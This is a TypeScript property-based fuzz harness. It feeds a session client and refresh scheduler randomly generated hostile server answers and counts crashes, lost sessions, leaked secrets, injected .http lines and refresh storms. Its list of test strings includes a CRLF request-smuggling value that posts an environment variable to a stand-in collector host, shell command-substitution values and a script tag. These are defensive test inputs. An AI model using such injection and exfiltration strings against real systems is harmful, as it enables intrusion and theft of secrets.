// A hostile service, generated (fast-check), through the real client, store and scheduler over a keychain
// that refuses writes at random; counts what must never happen (the unit suite asserts 0, `npm run bench` prints).
import * as fc from 'fast-check';
import { ApiError } from '../../src/core/api/errors';
import { createApiClient } from '../../src/core/api/client';
import type { HttpRequest, HttpResponse, LoginRequest, Transport } from '../../src/core/api/types';
import { planAuthEdit } from '../../src/core/restFile/authHeaderEdit';
import { parseRestFile } from '../../src/core/restFile/requestParser';
import { applyEdits } from '../../src/core/restFile/textEdit';
import { Lease } from '../../src/core/sessions/lease';
import { RefreshScheduler } from '../../src/core/sessions/refreshScheduler';
import { MIN_AUTO_INTERVAL_MS } from '../../src/core/sessions/refreshPlan';
import { SessionStore } from '../../src/core/sessions/sessionStore';
import { computeExpiry } from '../../src/core/sessions/token';
import { isSafeToken } from '../../src/core/util/tokenGrammar';
import { createTestClock } from '../support/doubles/fakeClock';
import { TestMemento } from '../support/doubles/testMemento';
import { SharedSecretBackend } from '../support/doubles/testSecretStorage';
import { RecordingLog } from '../support/doubles/recordingLog';

export interface HostileCounts {
	/** Generated answers sent through the client (login and refresh, manual and automatic). */
	answers: number;
	/** Exceptions that were not the client's typed ApiError. */
	crashes: number;
	unhandledRejections: number;
	/** Accounts gone, without tokens, or holding tokens another window would not load. */
	sessionsLost: number;
	/** A known secret (sent or received) in a log line or an error text. */
	secretsLeaked: number;
	/** A .http edit that added more than the one header line, or a new request. */
	injectedLines: number;
	/** Automatic refreshes closer together than the minimum interval. */
	refreshStorms: number;
}

const PLACEHOLDER = '§SECRET§';

/** Strings a hostile service puts anywhere. */
const NASTY = [
	'\r\n\r\n### x\r\nPOST http://collector.invalid/?h={{$processEnv HOME}}',
	"'; echo INJECTED; : '",
	'"}, "x": "',
	'{{$dotenv TOKEN}}',
	'$(touch /tmp/pwned)',
	'`id`',
	'\u0000\u0007\u001b[31m',
	'\u2028\u2029\u202e',
	'<script>alert(1)</script>',
	' ',
	PLACEHOLDER,
];

const nasty = fc.constantFrom(...NASTY);
const anyText = fc.oneof(
	fc.string(),
	fc.string({ unit: 'binary' }),
	nasty,
	fc.tuple(fc.string({ maxLength: 20 }), nasty, fc.string({ maxLength: 20 })).map((p) => p.join('')),
);
const anyNumber = fc.oneof(
	fc.integer(),
	fc.double(),
	fc.constantFrom(0, -1, 1e16, -1e16, 8.64e15 + 1, Number.MAX_SAFE_INTEGER, 1e308, -0.5),
);
const anyScalar = fc.oneof(anyText, anyNumber, fc.boolean(), fc.constant(null));

function b64url(value: unknown): string {
	return Buffer.from(JSON.stringify(value)).toString('base64url');
}

/** A JWT with arbitrary claims (exp from the past to past a `Date`), maybe with a tail. */
const jwt = (now: number) => fc.record({
	exp: fc.oneof(anyNumber, fc.integer({ min: -86_400, max: 40 * 86_400 }).map((d) => Math.floor(now / 1000) + d), anyText),
	iat: fc.option(fc.oneof(anyNumber, fc.constant(Math.floor(now / 1000)))),
	name: fc.option(anyText),
	tail: fc.option(nasty),
}).map(({ exp, iat, name, tail }) => {
	const payload: Record<string, unknown> = { sub: 'subject', exp };
	if (iat !== null) payload.iat = iat;
	if (name !== null) payload.name = name;
	return `${b64url({ alg: 'HS256', typ: 'JWT' })}.${b64url(payload)}.c2ln${tail ?? ''}`;
});

const tokenish = (now: number) => fc.oneof(
	{ weight: 4, arbitrary: jwt(now) },
	{ weight: 2, arbitrary: fc.stringMatching(/^[A-Za-z0-9_-]{1,40}$/) },
	{ weight: 2, arbitrary: anyScalar },
	{ weight: 1, arbitrary: fc.integer({ min: 8000, max: 70_000 }).map((n) => 'A'.repeat(n)) },
	{ weight: 1, arbitrary: fc.object({ maxDepth: 2 }) },
);

const envelope = (now: number) => fc.record({
	Status: fc.oneof(fc.constant(200), anyScalar),
	Title: anyScalar,
	Errors: fc.oneof(fc.constant([]), fc.array(fc.record({ Key: anyScalar, Message: anyScalar }), { maxLength: 15 }), anyScalar, fc.dictionary(fc.string(), fc.array(anyText))),
	Result: fc.oneof(
		{ weight: 5, arbitrary: fc.record({
			AccessToken: fc.oneof(tokenish(now), fc.record({ Token: tokenish(now), ExpiresIn: fc.oneof(anyNumber, anyText) }, { requiredKeys: [] })),
			RefreshToken: tokenish(now),
			DeviceToken: tokenish(now),
		}, { requiredKeys: [] }) },
		{ weight: 1, arbitrary: anyScalar },
	),
}, { requiredKeys: [] });

/** One answer: status, headers and a body of any form. */
const answer = (now: number) => fc.record({
	status: fc.constantFrom(200, 200, 200, 200, 201, 204, 302, 400, 401, 403, 404, 407, 408, 415, 422, 429, 500, 502, 503),
	contentType: fc.constantFrom('application/json', 'application/json; charset=utf-8', 'text/html', 'text/plain', ''),
	retryAfter: fc.option(fc.oneof(anyText, anyNumber.map(String))),
	body: fc.oneof(
		{ weight: 6, arbitrary: envelope(now).map((e) => JSON.stringify(e)) },
		{ weight: 1, arbitrary: fc.tuple(envelope(now), fc.nat()).map(([e, n]) => { const t = JSON.stringify(e); return t.slice(0, n % Math.max(1, t.length)); }) },
		{ weight: 1, arbitrary: fc.constantFrom('<html><body><h1>502 Bad Gateway</h1></body></html>', '<!doctype html><p>login</p>', '', '   ', 'null', '[]', '"just a string"') },
		{ weight: 1, arbitrary: anyText },
		{ weight: 1, arbitrary: fc.tuple(envelope(now), fc.integer({ min: 50_000, max: 300_000 })).map(([e, n]) => JSON.stringify({ ...e, Padding: 'x'.repeat(n) })) },
	),
	echo: fc.constantFrom('raw', 'json', 'url', 'base64', 'base64url'),
});

/** A well-formed success whose token may still be expired, absurd or short-lived, and rotates. */
const success = (now: number) => fc.record({
	status: fc.constant(200),
	contentType: fc.constant('application/json'),
	retryAfter: fc.constant(null),
	body: fc.record({
		exp: fc.oneof(fc.integer({ min: -3600, max: 3 * 3600 }).map((d) => Math.floor(now / 1000) + d), anyNumber),
		expiresIn: fc.option(anyNumber),
		refreshToken: fc.stringMatching(/^[A-Za-z0-9_-]{16,40}$/),
	}).map(({ exp, expiresIn, refreshToken }) => JSON.stringify({
		Status: 200,
		Errors: [],
		Result: {
			AccessToken: { Token: `${b64url({ alg: 'HS256' })}.${b64url({ sub: 'subject', exp })}.c2ln`, ...(expiresIn !== null && { ExpiresIn: expiresIn }) },
			RefreshToken: refreshToken,
		},
	})),
	echo: fc.constant('raw' as const),
});

const anyAnswer = (now: number) => fc.oneof({ weight: 1, arbitrary: success(now) }, { weight: 2, arbitrary: answer(now) });

type Answer = ReturnType<ReturnType<typeof answer>['generate']>['value'];

/** How a service might echo a secret it was sent. */
function encode(secret: string, how: Answer['echo']): string {
	switch (how) {
		case 'raw': return secret;
		case 'json': return JSON.stringify(secret).slice(1, -1);
		case 'url': return encodeURIComponent(secret);
		case 'base64': return Buffer.from(secret).toString('base64');
		case 'base64url': return Buffer.from(secret).toString('base64url');
	}
}

const PASSWORD = 'hunter2-Pa$$w0rd/+=';
const DEVICE_TOKEN = 'device-4f1c9a77-0b0e';
const HTTP_FILE = '@host = https://api.example.test\n\n### one\nGET {{host}}/v1/trips\nAccept: application/json\n\n### two\nPOST {{host}}/v1/x\nContent-Type: application/json\n\n{"a": 1}\n';

/** The known-good tokens the session starts with: 90 s left, so automatic refreshes happen. */
function goodTokens(now: number, tag: string) {
	const exp = Math.floor(now / 1000) + 90;
	return {
		accessToken: `${b64url({ alg: 'HS256' })}.${b64url({ sub: 'subject', exp, iat: exp - 7200 })}.good${tag}`,
		refreshToken: `good-refresh-${tag}-0123456789`,
		expiresAt: exp * 1000,
		expirySource: 'jwt' as const,
		obtainedAt: now,
		deviceToken: DEVICE_TOKEN,
	};
}

/**
 * One scenario: a login answered by `login`, then a logged-in session refreshed by hand and
 * then automatically for 5 minutes, each refresh answered by `refresh`, while the keychain
 * refuses the writes `failures` picks.
 */
async function scenario(login: Answer, refresh: Answer, failures: boolean[], counts: HostileCounts, tag: string): Promise<void> {
	const time = createTestClock();
	const now = time.clock.now();
	const backend = new SharedSecretBackend();
	const memento = new TestMemento();
	const log = new RecordingLog();
	const secrets = new Set<string>([PASSWORD, DEVICE_TOKEN]);
	const messages: string[] = [];
	const refreshCalls: number[] = [];

	let writes = 0;
	let failing = false;
	backend.failStore = () => failing && failures[writes++ % failures.length] === true;

	const respond = (a: Answer, request: HttpRequest): HttpResponse => {
		const sent = request.body ? JSON.parse(request.body) as Record<string, string> : {};
		const echoed = sent.RefreshToken ?? sent.Password ?? PASSWORD;
		const body = a.body.split(PLACEHOLDER).join(encode(echoed, a.echo));
		const headers: Record<string, string> = {};
		if (a.contentType) headers['content-type'] = a.contentType;
		if (a.retryAfter !== null) headers['retry-after'] = a.retryAfter;
		counts.answers++;
		return { status: a.status, headers, body };
	};
	/** Refresh tokens the client itself replaced by a rotated one: sending one again means the rotated one was lost. */
	const spent = new Set<string>();
	const transport: Transport = async (request) => {
		if (request.url.endsWith('/RefreshToken')) {
			refreshCalls.push(time.clock.now());
			// A loop on a fake clock never lets time pass: stop it here and let the count tell.
			if (refreshCalls.length > 100) throw new Error('refresh loop');
			const sent = (JSON.parse(request.body ?? '{}') as { RefreshToken?: string }).RefreshToken;
			if (sent !== undefined && spent.has(sent)) counts.sessionsLost++;
			return respond(refresh, request);
		}
		return respond(login, request);
	};
	const client = createApiClient(transport, log);
	const crash = (e: unknown) => {
		if (e instanceof ApiError) messages.push(e.message, ...e.details.map((d) => `${d.key} ${d.message}`));
		else counts.crashes++;
	};

	// --- login: whatever comes back is either refused with an ApiError or fits the grammar.
	const request: LoginRequest = { kind: 'user', baseUrl: 'https://user.example.test', instanceId: 'inst', login: DEVICE_TOKEN, password: PASSWORD, loginFieldsFormat: 'object' };
	try {
		const tokens = await client.login(request, { timeoutMs: 1000 });
		for (const t of [tokens.accessToken, tokens.refreshToken, tokens.deviceToken]) if (t !== undefined && !isSafeToken(t)) counts.injectedLines++;
		checkHttpEdit(tokens.accessToken, counts);
		computeExpiry(tokens.accessToken, tokens.expiresIn, now);
	} catch (e) {
		crash(e);
	}

	// --- refresh: a logged-in session, refreshed by hand, then automatically.
	const view = backend.view();
	const store = new SessionStore(view, memento, { clock: time.clock, log });
	const scheduler = new RefreshScheduler({
		store,
		api: {
			refresh: async (r, options) => {
				const tokens = await client.refresh(r, { timeoutMs: 1000, ...options });
				if (tokens.refreshToken !== r.refreshToken) spent.add(r.refreshToken);
				return tokens;
			},
		},
		clock: time.clock,
		marginMs: () => 300_000,
		enabled: () => true,
		log,
		lease: new Lease(view, time.clock, `w${tag}`, 10_000, 0),
		random: () => 0.5,
	});
	try {
		await store.load();
		const start = goodTokens(now, tag);
		secrets.add(start.accessToken).add(start.refreshToken);
		const { account } = await store.saveLogin({ kind: 'user', serviceUrl: 'https://user.example.test', instanceId: 'inst', login: DEVICE_TOKEN, label: 'fuzz' }, start);
		failing = true;
		const manual = scheduler.refreshNow(account.id).catch(crash);
		await time.timers.tickAsync(1_000);
		await manual;
		scheduler.start();
		await time.timers.tickAsync(5 * 60_000);

		// Whatever happened, the account is there, with tokens of the grammar, and a window
		// opened after the keychain recovers loads the same refresh token this one holds.
		const live = store.get(account.id);
		for (const t of [live?.tokens?.accessToken, live?.tokens?.refreshToken]) if (t) secrets.add(t);
		if (!live?.tokens || !isSafeToken(live.tokens.accessToken) || !isSafeToken(live.tokens.refreshToken)) counts.sessionsLost++;
		if (live?.tokens) checkHttpEdit(live.tokens.accessToken, counts);
		failing = false;
		await time.timers.tickAsync(2 * 60_000);
		const later = new SessionStore(backend.view(), memento, { clock: time.clock });
		await later.load();
		const reloaded = later.get(account.id);
		if (!reloaded?.tokens || reloaded.tokens.refreshToken !== store.get(account.id)?.tokens?.refreshToken) counts.sessionsLost++;
		later.dispose();
	} catch (e) {
		crash(e);
	} finally {
		scheduler.dispose();
		store.dispose();
		view.dispose();
	}

	// Automatic refreshes (after the manual one) keep the minimum interval.
	for (let i = 1; i < refreshCalls.length; i++) {
		if (refreshCalls[i]! - refreshCalls[i - 1]! < MIN_AUTO_INTERVAL_MS - 1) counts.refreshStorms++;
	}
	for (const text of [...log.lines, ...messages]) {
		for (const secret of secrets) {
			if (secret.length >= 8 && [secret, encodeURIComponent(secret), Buffer.from(secret).toString('base64')].some((form) => text.includes(form))) {
				counts.secretsLeaked++;
				break;
			}
		}
	}
}

/** Inserting the header adds exactly one line to one request, and never a new request. */
function checkHttpEdit(token: string, counts: HostileCounts): void {
	let edited: string;
	try {
		edited = applyEdits(HTTP_FILE, planAuthEdit(parseRestFile(HTTP_FILE), [HTTP_FILE.indexOf('GET')], { style: 'variable', token }));
	} catch {
		if (isSafeToken(token)) counts.injectedLines++; // a good token must be written
		return; // refused where it leaves: nothing written
	}
	const lines = (t: string) => t.split('\n').length;
	const requests = (t: string) => t.split('\n').filter((l) => l.startsWith('###') || /^(GET|POST|PUT|DELETE|PATCH) /.test(l)).length;
	if (lines(edited) !== lines(HTTP_FILE) + 2 || requests(edited) !== requests(HTTP_FILE) || !isSafeToken(token)) counts.injectedLines++;
}

/** Runs `runs` scenarios (two generated answers each) and returns the counts. */
export async function runHostileService(runs: number, seed?: number): Promise<HostileCounts> {
	const counts: HostileCounts = { answers: 0, crashes: 0, unhandledRejections: 0, sessionsLost: 0, secretsLeaked: 0, injectedLines: 0, refreshStorms: 0 };
	const onUnhandled = () => void counts.unhandledRejections++;
	process.on('unhandledRejection', onUnhandled);
	let serial = 0;
	try {
		const now = createTestClock().clock.now();
		await fc.assert(
			fc.asyncProperty(anyAnswer(now), anyAnswer(now), fc.array(fc.boolean(), { minLength: 1, maxLength: 8 }), async (login, refresh, failures) => {
				await scenario(login, refresh, failures, counts, String(serial++));
			}),
			{ numRuns: runs, ...(seed !== undefined && { seed }) },
		);
		// Let any rejection that escaped surface before the listener goes.
		await new Promise((resolve) => setImmediate(resolve));
	} finally {
		process.off('unhandledRejection', onUnhandled);
	}
	return counts;
}
